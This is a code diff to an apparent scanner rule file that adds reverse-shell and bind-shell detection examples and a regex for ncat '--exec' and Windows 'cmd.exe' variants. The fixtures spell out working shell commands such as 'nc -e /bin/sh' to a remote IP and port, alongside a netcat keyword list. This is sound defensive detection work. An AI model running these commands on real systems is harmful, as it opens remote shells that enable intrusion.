@@ -24,8 +24,15 @@ export const REVERSE_SHELL_RULES: PatternRule[] = [
     category: 'reverse-shell',
     severity: 'critical',
     examples: {
-      match: [{ path: 'scripts/x.sh', text: '#!/bin/sh\nnc -e /bin/sh 91.92.0.17 4444\n' }],
-      noMatch: [{ path: 'scripts/x.sh', text: '#!/bin/sh\nnc -zv db.internal 5432\n' }],
+      match: [
+        { path: 'scripts/x.sh', text: '#!/bin/sh\nnc -e /bin/sh 91.92.0.17 4444\n' },
+        { path: 'scripts/x.sh', text: '#!/bin/sh\nncat --exec "/bin/bash" --listen 9001 --keep-open\n' },
+        { path: 'scripts/x.bat', text: 'nc.exe -e cmd.exe 91.92.0.17 4444\n' },
+      ],
+      noMatch: [
+        { path: 'scripts/x.sh', text: '#!/bin/sh\nnc -zv db.internal 5432\n' },
+        { path: 'scripts/x.sh', text: '#!/bin/sh\nncat --ssl --listen 8443 > received.bin\n' },
+      ],
     },
     nature: 'code',
     keywords: ['nc ', 'ncat', 'netcat', 'mkfifo', 'socat'],
@@ -36,6 +43,8 @@ export const REVERSE_SHELL_RULES: PatternRule[] = [
       // Bind shells through pipes: a listener feeding a shell, or an interactive shell feeding a socket.
       r`\b(?:nc|ncat|netcat)\s{1,3}(?:-[a-z]{1,4}\s{1,3}(?:\d{1,5}\s{1,3})?){0,4}-[a-z]{0,3}l[a-z]{0,3}\b[^\n;]{0,80}?\|\s{0,3}(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b`,
       r`\b(?:ba|z|da)?sh\s{1,3}-i\b[^\n;]{0,40}?\|\s{0,3}(?:nc|ncat|netcat)\b`,
+      // Long options and Windows shells: `ncat --exec "/bin/sh" -l 9001`, `nc -e cmd.exe host 4444`.
+      r`\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}?\s(?:--(?:sh-)?exec(?:\s{1,3}|=)|-[a-z]{0,4}e\s{0,3})["']?(?:(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b`,
     ],
   }),
   pattern({
